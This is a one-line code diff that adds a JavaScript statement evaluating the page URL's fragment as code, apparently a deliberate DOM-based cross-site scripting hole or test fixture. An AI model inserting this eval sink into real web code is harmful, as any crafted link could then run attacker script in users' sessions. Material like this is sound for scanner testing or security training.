@@ -1,0 +1,1 @@
+window.eval(document.location.hash.slice(1));
